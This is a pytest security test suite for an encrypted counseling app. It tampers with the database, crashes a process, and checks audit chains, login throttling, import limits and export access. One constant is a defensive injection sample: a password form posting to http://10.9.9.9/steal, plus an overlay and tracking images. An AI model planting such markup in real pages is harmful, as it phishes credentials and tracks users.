"""The app against an attacker with the database file, a crash, bad input and the login form:
ciphertext bound to its row, rollback detected, damaged rows reported alone, the audit chain
verified, the key check read-only, schema-1 stores migrated, leftovers swept, imports held to the
UI's limits, logins throttled, patient text escaped, exports for their counselor only."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from phyassist.app import notes as N
from phyassist.app.crypto import DamagedRecord, KeyProblem, encode_key, new_key
from phyassist.app.storage import Store, UnknownPatient
from phyassist.paths import REPO_ROOT

PLANTED = "Wilhelmina Quokkason"
NOTE = {"date": "2024-05-01", "question": "panic on the tram", "symptom_type": "panic", "reasons": ["crowds"],
        "advice": ["breathing"]}
ENV = "PHYASSIST_TEST_NO_SUCH_ENV"


def _open(data: Path, key_file: Path) -> Store:
    return Store.open(data, key_env=ENV, key_file=key_file)


@pytest.fixture
def store(tmp_path):
    s = _open(tmp_path / "data", tmp_path / "keys" / "app.key")
    yield s
    s.close()


def _sql(store: Store, sql: str, *args):
    with store.engine.begin() as conn:
        return conn.exec_driver_sql(sql, args).fetchall() if sql.lstrip().upper().startswith("SELECT") \
            else conn.exec_driver_sql(sql, args)


def _files(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir()) if p.is_file()}


# --- 6: every ciphertext bound to its row ------------------------------------------------------
def test_swapped_patient_records_do_not_open_and_are_reported_alone(store):
    a = store.create_patient("alice", {"name": PLANTED})
    b = store.create_patient("alice", {"name": "Other Person"})
    c = store.create_patient("alice", {"name": "Third Person"})
    (blob_a,), (blob_b,) = _sql(store, "SELECT data FROM patients WHERE id=?", a)[0], \
        _sql(store, "SELECT data FROM patients WHERE id=?", b)[0]
    _sql(store, "UPDATE patients SET data=? WHERE id=?", blob_b, a)
    _sql(store, "UPDATE patients SET data=? WHERE id=?", blob_a, b)
    for pid in (a, b):
        with pytest.raises(DamagedRecord, match=f"patient #{pid}"):
            store.get_patient("alice", pid)
    listed = store.list_patients("alice")
    assert [p["id"] for p in listed if p.get("damaged")] == [a, b]
    assert store.get_patient("alice", c)["name"] == "Third Person"
    assert ("alice", "damaged_record") in {(e["user"], e["action"]) for e in store.audit_log()}


def test_moved_or_duplicated_note_is_reported_alone(store):
    a = store.create_patient("alice", {"name": PLANTED})
    b = store.create_patient("alice", {"name": "Other Person"})
    n1 = store.add_note("alice", a, NOTE)
    store.add_note("alice", a, dict(NOTE, question="second visit"))
    nb = store.add_note("alice", b, dict(NOTE, question="b's visit"))
    _sql(store, "UPDATE notes SET patient_id=? WHERE id=?", b, n1)  # a's note moved to b
    _sql(store, "INSERT INTO notes (patient_id, created_at, data) SELECT patient_id, created_at, data FROM notes "
                "WHERE id=?", nb)  # b's note duplicated
    notes, damaged = store.list_notes_checked("alice", b)
    assert [n["question"] for n in notes] == ["b's visit"] and len(damaged) == 2 and n1 in damaged
    assert [n["question"] for n in store.list_notes("alice", a)] == ["second visit"]


def test_chat_message_moved_to_another_patient_or_user_does_not_open(store):
    a = store.create_patient("alice", {"name": PLANTED})
    b = store.create_patient("alice", {"name": "Other Person"})
    store.add_chat("alice", a, "user", f"about {PLANTED}")
    store.add_chat("alice", None, "user", "general question")
    _sql(store, "UPDATE chat_messages SET patient_id=? WHERE patient_id=?", b, a)
    chat = store.list_chat("alice")
    assert chat[0].get("damaged") and chat[1]["content"] == "general question"
    _sql(store, "UPDATE chat_messages SET username='bob'")
    assert all(m.get("damaged") for m in store.list_chat("bob"))


def test_older_draft_restored_is_detected_and_can_be_discarded(store):
    pid = store.create_patient("alice", {"name": PLANTED})
    draft = {"question": "q", "symptom_type": {"text": "old", "comment": ""}, "reasons": [], "advice": []}
    store.save_draft("alice", pid, draft)
    old = _sql(store, "SELECT data, version FROM drafts WHERE patient_id=?", pid)[0]
    store.save_draft("alice", pid, dict(draft, symptom_type={"text": "new", "comment": ""}))
    assert store.get_draft("alice", pid)["symptom_type"]["text"] == "new"
    _sql(store, "UPDATE drafts SET data=?, version=? WHERE patient_id=?", old[0], old[1], pid)
    with pytest.raises(DamagedRecord, match="not the latest"):
        store.get_draft("alice", pid)
    store.save_draft("alice", pid, None)  # the counselor can always discard it
    assert store.get_draft("alice", pid) is None
    _sql(store, "INSERT INTO drafts (patient_id, updated_at, version, data) VALUES (?, '2024-01-01', ?, ?)",
         pid, old[1], old[0])  # a saved-and-dropped draft copied back
    with pytest.raises(DamagedRecord):
        store.get_draft("alice", pid)


def test_adapter_record_rolled_back_or_removed_is_detected(store):
    pid = store.create_patient("alice", {"name": PLANTED})
    assert store.adapter_location(pid) is None
    store.record_adapter("alice", pid, "adapters/patient_1/v1", 3, 1)
    old = _sql(store, "SELECT folder, version FROM adapters WHERE patient_id=?", pid)[0]
    store.record_adapter("alice", pid, "adapters/patient_1/v2", 4, 2)
    assert store.adapter_location(pid) == (store.data_dir / "adapters/patient_1/v2", 2)
    with pytest.raises(RuntimeError, match="not the next one"):
        store.record_adapter("alice", pid, "adapters/patient_1/v2", 4, 2)
    _sql(store, "UPDATE adapters SET folder=?, version=? WHERE patient_id=?", old[0], old[1], pid)
    with pytest.raises(DamagedRecord, match="rolled back"):
        store.adapter_location(pid)
    _sql(store, "DELETE FROM adapters")
    with pytest.raises(DamagedRecord):  # never silently on the base model
        store.adapter_location(pid)


def test_patient_ids_are_whole_numbers(store):
    from phyassist.app.ui import _pid

    pid = store.create_patient("alice", {"name": PLANTED})
    assert pid == 1 and store.get_patient("alice", "1")["name"] == PLANTED
    for bad in (1.9, True, "1.9", "True", "1x", "abc", -1):
        with pytest.raises(UnknownPatient):
            store.get_patient("alice", bad)
        with pytest.raises(N.InputProblem, match="whole number"):
            _pid(bad)
    assert _pid("1") == 1 and _pid(1) == 1


# --- 8: audit log ------------------------------------------------------------------------------
def test_audit_chain_detects_edits_removals_and_truncation(store):
    pid = store.create_patient("alice", {"name": PLANTED})
    for _ in range(3):
        store.get_patient("bob", pid)
    assert store.verify_audit().ok and store.verify_audit().entries == 4
    rows = _sql(store, "SELECT id, username FROM audit ORDER BY id")
    _sql(store, "UPDATE audit SET username='mallory' WHERE id=?", rows[1][0])
    bad = store.verify_audit()
    assert not bad.ok and f"entry #{rows[1][0]}" in bad.text()
    _sql(store, "UPDATE audit SET username=? WHERE id=?", rows[1][1], rows[1][0])
    assert store.verify_audit().ok
    _sql(store, "DELETE FROM audit WHERE id=?", rows[1][0])  # one entry removed in the middle
    assert not store.verify_audit().ok


def test_audit_chain_detects_a_removed_last_entry(store):
    store.create_patient("alice", {"name": PLANTED})
    store.audit("alice", "read_audit_log", "audit")
    _sql(store, "DELETE FROM audit WHERE id=(SELECT max(id) FROM audit)")
    report = store.verify_audit()
    assert not report.ok and "removed from the end" in report.text()


def _cli(*args, env=None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "phyassist", "app", "--config", "smoke", *args], cwd=REPO_ROOT,
                          env=dict(os.environ, PYTHONPATH=str(REPO_ROOT), **(env or {})), capture_output=True,
                          text=True, timeout=300)


def test_verify_audit_command(tmp_path):
    data, key_file = tmp_path / "data", tmp_path / "keys" / "app.key"
    s = _open(data, key_file)
    s.create_patient("alice", {"name": PLANTED})
    s.close()
    ok = _cli("--data-dir", str(data), "--verify-audit", f"app.key_file={key_file}")
    assert ok.returncode == 0 and "audit log intact: 1 entries" in ok.stdout, ok.stderr
    s = _open(data, key_file)
    _sql(s, "UPDATE audit SET action='nothing'")
    s.close()
    bad = _cli("--data-dir", str(data), "--verify-audit", f"app.key_file={key_file}")
    assert bad.returncode == 1 and "NOT intact" in bad.stderr and "entry #1" in bad.stderr


# --- 5: the key check changes no file ----------------------------------------------------------
CRASHER = textwrap.dedent("""
    import os, signal, sys
    from pathlib import Path
    from phyassist.app.storage import Store
    store = Store.open(Path(sys.argv[1]), key_env="PHYASSIST_TEST_NO_SUCH_ENV", key_file=Path(sys.argv[2]))
    for i in range(20):
        store.create_patient("alice", {"name": f"crash {i}"})
    os.kill(os.getpid(), signal.SIGKILL)  # WAL and SHM left behind, the WAL not merged
""")


def test_wrong_key_after_a_crash_changes_no_file(tmp_path, monkeypatch):
    data, key_file = tmp_path / "data", tmp_path / "keys" / "app.key"
    script = tmp_path / "crash.py"
    script.write_text(CRASHER)
    proc = subprocess.run([sys.executable, str(script), str(data), str(key_file)],
                          env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))
    assert proc.returncode == -signal.SIGKILL
    before = _files(data)
    assert {"phyassist.sqlite", "phyassist.sqlite-wal", "phyassist.sqlite-shm"} <= set(before)
    monkeypatch.setenv("PHYASSIST_APP_KEY", encode_key(new_key()))
    with pytest.raises(KeyProblem, match="wrong key"):
        Store.open(data, key_file=key_file)
    assert _files(data) == before
    (data / "phyassist.sqlite-shm").unlink()  # a WAL without its SHM: read from a private copy
    before = _files(data)
    with pytest.raises(KeyProblem, match="wrong key"):
        Store.open(data, key_file=key_file)
    assert _files(data) == before
    monkeypatch.delenv("PHYASSIST_APP_KEY")
    again = _open(data, key_file)
    assert again.patient_count() == 20
    again.close()


def test_key_file_that_is_a_folder_gives_a_clear_error(tmp_path):
    (tmp_path / "keys" / "app.key").mkdir(parents=True)
    with pytest.raises(KeyProblem, match="is a folder"):
        _open(tmp_path / "data", tmp_path / "keys" / "app.key")
    res = _cli("--data-dir", str(tmp_path / "data"), f"app.key_file={tmp_path / 'keys' / 'app.key'}",
               env={"PHYASSIST_APP_USERS": "alice:pw"})
    assert res.returncode == 2 and "is a folder" in res.stderr and "Traceback" not in res.stderr


# --- 9: the bind address is checked before the model loads -------------------------------------
def test_public_host_without_logins_refused_before_the_model_loads(tmp_path, monkeypatch, capsys):
    import argparse

    from phyassist.app import service, stage
    from phyassist.config import load_config

    def no_model(*a, **k):
        raise AssertionError("the model must not load")

    monkeypatch.setattr(service.CounselorService, "build", no_model)
    monkeypatch.delenv("PHYASSIST_APP_USERS", raising=False)
    cfg = load_config("smoke", [f"app.key_file={tmp_path / 'k' / 'app.key'}"])
    args = argparse.Namespace(data_dir=str(tmp_path / "data"), port=None, host="0.0.0.0", verify_audit=False)
    assert stage.main(cfg, args) == 2
    out = capsys.readouterr()
    assert "refusing to serve on 0.0.0.0 without a login" in out.err and "serving on" not in out.out
    assert not (tmp_path / "data").exists()


# --- schema 1 -> 2 -------------------------------------------------------------------------------
def _tiny_lora(folder: Path) -> None:
    import torch
    from peft import LoraConfig, get_peft_model
    from transformers import LlamaConfig, LlamaForCausalLM

    torch.manual_seed(0)
    base = LlamaForCausalLM(LlamaConfig(vocab_size=64, hidden_size=32, intermediate_size=64, num_hidden_layers=1,
                                        num_attention_heads=4, num_key_value_heads=2, max_position_embeddings=64))
    get_peft_model(base, LoraConfig(r=4, target_modules=["q_proj"], init_lora_weights=False)).save_pretrained(folder)


def test_schema_1_store_migrates(tmp_path):
    from app_store_v1 import StoreV1

    from phyassist.app.adapters import CONFIG, SEALED_WEIGHTS, open_sealed

    data, key_file = tmp_path / "data", tmp_path / "keys" / "app.key"
    key = new_key()
    key_file.parent.mkdir()
    key_file.write_text(encode_key(key) + "\n")
    key_file.chmod(0o600)
    old = StoreV1(data, key)
    pid = old.create_patient("alice", {"name": PLANTED, "age": "41"})
    other = old.create_patient("alice", {"name": "Second Patient"})
    old.add_note("alice", pid, NOTE)
    old.add_note("alice", pid, dict(NOTE, question="second"))
    old.save_draft("alice", pid, {"question": "q", "symptom_type": {"text": "s", "comment": ""}, "reasons": [],
                                  "advice": []})
    old.save_draft("alice", pid, {"question": "q2", "symptom_type": {"text": "s", "comment": ""}, "reasons": [],
                                  "advice": []})
    old.add_chat("alice", pid, "user", f"about {PLANTED}")
    old.add_chat("alice", None, "assistant", "general")
    _tiny_lora(tmp_path / "plain")
    legacy = old.seal_and_record_adapter("alice", pid, tmp_path / "plain", 2)
    old.close()

    store = _open(data, key_file)
    assert store.get_patient("bob", pid)["name"] == PLANTED and store.get_patient("bob", other)["name"] == "Second Patient"
    assert [n["question"] for n in store.list_notes("bob", pid)] == [NOTE["question"], "second"]
    draft = store.get_draft("bob", pid)
    assert draft["question"] == "q2" and draft["version"] == 2
    assert store.save_draft("bob", pid, dict(draft, question="q3"))["version"] == 3
    assert [m["content"] for m in store.list_chat("alice")] == [f"about {PLANTED}", "general"]
    folder, version = store.adapter_location(pid)
    assert version == 1 and folder == legacy / "v1"
    assert not (legacy / SEALED_WEIGHTS).exists() and not (legacy / CONFIG).exists()
    _cfg, state = open_sealed(folder, store.cipher, pid, 1)
    assert state
    report = store.verify_audit()
    assert report.ok and report.entries >= 9
    assert [e["action"] for e in store.audit_log()].count("migrate_schema") == 1
    store.close()
    again = _open(data, key_file)  # no second migration
    assert [e["action"] for e in again.audit_log(1000)].count("migrate_schema") == 1
    assert again.verify_audit().ok and again.get_draft("bob", pid)["question"] == "q3"
    again.close()


# --- 4: leftovers of a killed training job -----------------------------------------------------
def test_startup_sweep_removes_plaintext_leftovers_and_unrecorded_versions(store, tmp_path):
    from phyassist.app.adapters import install_adapter, seal_adapter, version_folder
    from phyassist.app.private import private_workdir
    from phyassist.app.service import sweep_leftovers

    pid = store.create_patient("alice", {"name": PLANTED})
    _tiny_lora(tmp_path / "plain")
    v1 = install_adapter(store, "alice", pid, tmp_path / "plain", 1)
    # a job killed after sealing v2 but before its record: the patient stays on v1
    v2 = seal_adapter(tmp_path / "plain", store.data_dir, store.cipher, pid, store.next_adapter_version(pid))
    assert store.adapter_location(pid) == (v1, 1) and v2.exists()
    # a killed job's checkpoint folder (plaintext), and a live job's folder
    dead = store.data_dir / ".tmp" / "train-dead"
    (dead / "run" / "checkpoint-2").mkdir(parents=True)
    (dead / "run" / "checkpoint-2" / "adapter_model.safetensors").write_bytes(PLANTED.encode())
    with private_workdir(store.data_dir, "train-") as live:
        removed = sweep_leftovers(store)
        assert live.exists()
    assert ".tmp/train-dead" in removed and "patient_1/v2" in removed
    assert not dead.exists() and not v2.exists() and v1.exists()
    assert version_folder(store.data_dir, pid, 1) == v1
    assert not any(PLANTED.encode() in p.read_bytes() for p in store.data_dir.rglob("*") if p.is_file())


# --- 7: imports obey the UI's limits -----------------------------------------------------------
def _export(notes: list, **patient) -> str:
    return json.dumps({"format": "phyassist-patient-v1", "patient": {"name": PLANTED, **patient}, "notes": notes})


def test_imports_obey_the_ui_limits():
    limits = N.ImportLimits(max_chars=4000, max_notes=500, max_items=20)  # a lower item limit than the default
    cases = {
        "too long": _export([dict(NOTE, reasons=["x" * 2_000_000])]),
        "5000 notes": _export([NOTE] * 5000),
        "21 items": _export([dict(NOTE, advice=["a"] * 21)]),
        "nest": '{"format": "phyassist-patient-v1", "patient": {"name": "x"}, "notes": ' + "[" * 100_000 + "]" * 100_000 + "}",
        "must be text": _export([], age={"years": 3}),
        "unknown key": _export([dict(NOTE, secret="x")]),
        "personal history is too long": _export([], personal_history="y" * 5000),
    }
    for expected, text in cases.items():
        with pytest.raises(N.InputProblem) as err:
            N.parse_import(text, limits)
        msg = str(err.value)
        assert (expected.split()[0] in msg.lower() or expected in msg), (expected, msg)
        assert len(msg) < 300
    fields, notes = N.parse_import(_export([NOTE] * 3), limits)
    assert fields["name"] == PLANTED and len(notes) == 3


# --- 2: patient text is shown as typed ---------------------------------------------------------
INJECTED = ('<form action="http://10.9.9.9/steal"><input type="password" name="p"></form>'
            '<div style="position:fixed;inset:0;z-index:99">x</div> ![x](http://10.9.9.9/pixel.png) '
            '<img src="http://10.9.9.9/i.png"> # heading\n1. list $$x$$')


def test_patient_text_is_escaped_in_every_view():
    note = dict(NOTE, question=INJECTED, reasons=[INJECTED], advice=[INJECTED], raw=INJECTED)
    draft = N.new_draft(INJECTED, {"symptom_type": INJECTED, "reasons": [INJECTED], "advice": [INJECTED],
                                   "raw": INJECTED, "ok": False, "problem": "x"})
    draft["symptom_type"]["comment"] = INJECTED
    views = [N.note_markdown(note, 1), N.draft_markdown(N.add_alternative(draft, draft)),
             N.patient_summary_markdown({"name": INJECTED, "mental_state": INJECTED}),
             N.export_markdown({"name": INJECTED}, [note])]
    for md in views:
        assert "<form" not in md and "<img" not in md and "<div" not in md and "<input" not in md
        assert "![x](" not in md and "\n# heading" not in md and "$$x$$" not in md
        assert "&lt;form" in md
    from phyassist.app.ui import _status

    assert "<form" not in _status(f"import file: notes[1].date: expected YYYY-MM-DD, got {INJECTED!r}", False)


# --- 8: logins throttled per user and address, failures audited --------------------------------
def test_login_throttle_and_audit(store):
    from phyassist.app.ui import make_auth
    from phyassist.app.web import CLIENT_ADDRESS, LoginThrottle

    now = [1000.0]
    throttle = LoginThrottle(max_failures=5, lockout_s=30, clock=lambda: now[0])
    check = make_auth({"alice": "right"}, throttle, store.audit)
    CLIENT_ADDRESS.set("10.0.0.7")
    results = [check("alice", f"guess{i}") for i in range(200)]
    assert not any(results)
    assert not check("alice", "right"), "a locked-out login is refused even with the right password"
    actions = [e["action"] for e in store.audit_log(1000)]
    assert actions.count("login_failed") == 5 and actions.count("login_throttled") == 196
    CLIENT_ADDRESS.set("10.0.0.8")  # the same user from another address is not locked out
    assert check("alice", "right")
    CLIENT_ADDRESS.set("10.0.0.7")
    now[0] += 31
    assert check("alice", "right")
    assert not check("mallory", "x")
    assert store.audit_log(1)[0]["user"] == "(unknown user)"
    assert "guess" not in json.dumps(store.audit_log(1000))


def test_login_lockout_doubles_and_is_capped():
    from phyassist.app.web import LoginThrottle

    now = [0.0]
    t = LoginThrottle(max_failures=2, lockout_s=10, max_lockout_s=35, clock=lambda: now[0])
    t.failed("a", "x")
    assert t.wait_s("a", "x") == 0
    t.failed("a", "x")
    assert t.wait_s("a", "x") == 10
    t.failed("a", "x")
    assert t.wait_s("a", "x") == 20
    t.failed("a", "x")
    assert t.wait_s("a", "x") == 35
    for i in range(8):  # many users from one address: the address itself waits
        t.failed(f"u{i}", "y")
    assert t.wait_s("someone-else", "y") > 0


# --- 1 and 3: headers on every response; exports for their counselor, once --------------------
def test_guard_middleware_headers_and_exports():
    from starlette.applications import Starlette
    from starlette.middleware import Middleware
    from starlette.responses import PlainTextResponse, StreamingResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    from phyassist.app.web import ExportDesk, GuardMiddleware

    async def stream(request):
        async def gen():
            yield b"data: " + PLANTED.encode() + b"\n\n"
        return StreamingResponse(gen(), media_type="text/event-stream")

    desk = ExportDesk(ttl_s=60)
    app = Starlette(routes=[Route("/queue/data", stream), Route("/", lambda r: PlainTextResponse("page"))],
                    middleware=[Middleware(GuardMiddleware, desk=desk, local_user="local")])
    app.auth, app.cookie_id, app.tokens = object(), "abc", {"tok-a": "alice", "tok-b": "bob"}
    client = TestClient(app)
    for path in ("/", "/queue/data"):
        r = client.get(path)
        assert r.headers["cache-control"] == "no-store" and "default-src 'self'" in r.headers["content-security-policy"]
        assert "form-action 'self'" in r.headers["content-security-policy"]
    url = desk.put("alice", "patient_1.json", json.dumps({"name": PLANTED}))
    assert client.get(url).status_code == 404  # not logged in
    assert client.get(url, headers={"cookie": "access-token-abc=tok-b"}).status_code == 404  # another counselor
    r = client.get(url, headers={"cookie": "access-token-abc=tok-a"})
    assert r.status_code == 200 and PLANTED in r.text and r.headers["cache-control"] == "no-store"
    assert "attachment" in r.headers["content-disposition"]
    assert client.get(url, headers={"cookie": "access-token-abc=tok-a"}).status_code == 404  # once
    url = desk.put("alice", "patient_1.md", PLANTED)
    odd = 'theme="dark mode; x=1; access-token-unsecure-abc=tok-a'  # an odd cookie does not hide the login
    assert client.get(url, headers={"cookie": odd}).status_code == 200
    assert len(desk) == 0
